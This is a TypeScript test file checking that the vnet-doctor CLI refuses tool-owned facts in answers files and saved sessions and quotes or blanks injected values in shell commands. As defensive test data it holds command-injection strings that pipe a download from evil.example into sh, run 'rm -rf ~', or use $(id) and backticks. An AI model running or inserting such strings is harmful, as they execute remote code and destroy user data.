/**
 * Facts the tool owns (session.*, derived facts, limits) cannot be set from outside: an answers
 * file naming one is refused with exit 2, a saved session holding one has it rebuilt or ignored,
 * and whatever reaches a step is checked and quoted for its shell, `vnet-doctor` steps included.
 * The exploit: `facts: {session.targetArgs: "--offline; curl -s https://evil.example/x | sh #"}`.
 */
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { checkCommand } from '../../src/cli/check-command.ts';
import { loadShippedFlows } from '../../src/flows/shipped-flows.ts';
import { DERIVATIONS } from '../../src/facts/derived.ts';
import { SessionController } from '../../src/session/controller.ts';
import { describeIgnored, withoutOwnedFacts } from '../../src/session/owned-facts.ts';
import { SESSION_FORMAT, type SavedSession } from '../../src/session/session-schema.ts';
import { renderCommand } from '../../src/engine/render-step.ts';
import type { FactValue } from '../../src/engine/types.ts';

const EXPLOIT = '--offline; curl -s https://evil.example/x | sh #';
const work = mkdtempSync(join(tmpdir(), 'vnet-doctor-owned-'));
after(() => rmSync(work, { recursive: true, force: true }));
const flowSet = loadShippedFlows();
const NOW = () => new Date('2026-11-25T10:00:00Z');

async function checkWith(answers: string) {
  const path = join(work, `answers-${Math.random().toString(36).slice(2)}.yaml`);
  writeFileSync(path, answers);
  const stdout: string[] = [];
  const stderr: string[] = [];
  const code = await checkCommand({ offline: true, answers: path, format: 'json' }, { print: (t) => stdout.push(t), error: (t) => stderr.push(t) }, { now: NOW });
  return { code, stdout: stdout.join('\n'), stderr: stderr.join('\n') };
}

test('an answers file setting session.targetArgs is refused with exit 2 naming the key, and nothing runs', async () => {
  const run = await checkWith(`answers:\n  triage/ask-symptom: migrate\nfacts:\n  session.targetArgs: "${EXPLOIT}"\n`);
  assert.equal(run.code, 2);
  assert.match(run.stderr, /:4: session\.targetArgs cannot be set in an answers file: the tool sets it/);
  assert.equal(run.stdout, '', 'no report, so no step holding the attacker\'s text');
  assert.doesNotMatch(run.stderr, /evil\.example/);
});

test('derived facts and limits are refused in answers files too, each named', async () => {
  const run = await checkWith('facts:\n  app.routesStale: no\n  limit.tcpTimeoutSeconds: 5\n  session.today: 2020-01-01\n  app.isLinux: no\n');
  assert.equal(run.code, 2);
  assert.match(run.stderr, /app\.routesStale cannot be set in an answers file: the tool works it out from other facts/);
  assert.match(run.stderr, /limit\.tcpTimeoutSeconds cannot be set in an answers file: it is a documented limit/);
  assert.match(run.stderr, /session\.today cannot be set in an answers file/);
  assert.doesNotMatch(run.stderr, /app\.isLinux/, 'facts the customer knows stay allowed');
});

function craftedSession(facts: SavedSession['facts'], target: SavedSession['target'] = { mode: 'offline' }): SavedSession {
  return {
    format: SESSION_FORMAT, savedAt: '2026-11-25T10:00:00.000Z', target, presetAnswers: {}, inputs: [], flow: 'retirement',
    facts: { 'app.integrationType': { value: 'gateway-required', source: 'arm' }, ...facts },
  };
}

function migrationCommands(saved: SavedSession): string[] {
  const controller = new SessionController({ flowSet, derivations: DERIVATIONS, sources: { gather: async () => { throw new Error('not read on resume'); } } });
  const { state } = controller.resume(saved);
  return state.findings.flatMap((finding) => finding.steps.flatMap((step) => (step.command?.startsWith('vnet-doctor') ? [step.command] : [])));
}

test('a saved session holding session.targetArgs gets the target flags rebuilt from its target, and says it ignored the file\'s', () => {
  const saved = craftedSession({
    'session.today': { value: '2026-11-25', source: 'derived' },
    'session.targetArgs': { value: EXPLOIT, source: 'derived' },
  });
  assert.deepEqual(migrationCommands(saved), ['vnet-doctor --offline --flow migration']);
  const cleaned = withoutOwnedFacts(saved, flowSet.facts);
  assert.deepEqual(cleaned.session.facts['session.targetArgs']!.value, ['--offline']);
  assert.match(describeIgnored(cleaned.ignored)!, /ignored: session\.targetArgs \(the tool sets it for the session\)/);
});

test('a crafted app id in a saved session\'s target becomes a blank, never a word of the command', () => {
  const saved = craftedSession({ 'session.today': { value: '2026-11-25', source: 'derived' } }, { mode: 'arm', appId: '/subscriptions/x;curl${IFS}evil.example|sh' });
  const [command] = migrationCommands(saved);
  assert.equal(command, 'vnet-doctor <target flags (the recorded value cannot be used in a command)> --flow migration');
});

test('saved derived facts and limits are dropped and worked out again; a saved day that is no date is ignored', () => {
  const saved = craftedSession({
    'session.today': { value: 'tomorrow; rm -rf ~', source: 'derived' },
    'app.routesStale': { value: false, source: 'derived' },
    'limit.retirementDate': { value: '1 April 2099', source: 'derived' },
    'app.isLinux': { value: false, source: 'arm' },
  });
  const cleaned = withoutOwnedFacts(saved, flowSet.facts);
  assert.deepEqual(Object.keys(cleaned.session.facts).sort(), ['app.integrationType', 'app.isLinux', 'session.targetArgs']);
  assert.deepEqual(cleaned.ignored, [
    'session.today (the tool sets it for the session)',
    'app.routesStale (the tool works it out from other facts)',
    'limit.retirementDate (it is a documented limit the tool defines)',
  ]);
});

test('a session the tool saved itself resumes without any notice', () => {
  const saved = craftedSession({ 'session.today': { value: '2026-11-25', source: 'derived' }, 'session.targetArgs': { value: ['--demo', 'healthy'], source: 'derived' } }, { mode: 'demo', scenario: 'healthy' });
  const cleaned = withoutOwnedFacts(saved, flowSet.facts);
  assert.deepEqual(cleaned.ignored, []);
  assert.equal(cleaned.session.facts['session.today']!.value, '2026-11-25', 'a demo keeps the day its scenario is set on');
});

const lookupOf = (facts: Record<string, FactValue>) => (key: string) => (Object.hasOwn(facts, key) ? facts[key] : undefined);

test('a vnet-doctor step is quoted for bash like an az step: whatever value arrives, no word of it runs', () => {
  const render = (value: FactValue) => renderCommand('vnet-doctor {{session.targetArgs}} --flow migration', 'manual', lookupOf({ 'session.targetArgs': value }), flowSet.facts).command;
  assert.equal(render(EXPLOIT), 'vnet-doctor <target flags (the recorded value cannot be used in a command)> --flow migration');
  assert.equal(render(['--offline;', 'curl']), 'vnet-doctor <target flags (the recorded value cannot be used in a command)> --flow migration');
  assert.equal(render(['--app', '/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/rg(prod)/providers/Microsoft.Web/sites/app-1']),
    "vnet-doctor --app '/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/rg(prod)/providers/Microsoft.Web/sites/app-1' --flow migration");
  assert.equal(render(['--demo', 'healthy']), 'vnet-doctor --demo healthy --flow migration');
});

test('a portal path takes a value only when no shell reads anything into it', () => {
  const catalogue = { ...flowSet.facts, 'app.note': { type: 'text' as const, label: 'note' } };
  const render = (value: string) => renderCommand('App > Networking > {{app.note}}', 'portal', lookupOf({ 'app.note': value }), catalogue).command;
  assert.equal(render('vnet-hub'), 'App > Networking > vnet-hub');
  for (const hostile of ['x; curl evil.example | sh', '$(id)', '`id`', 'a&b', '%PATH%', 'a b']) {
    assert.equal(render(hostile), 'App > Networking > <note (the recorded value cannot be written safely here)>', hostile);
  }
});
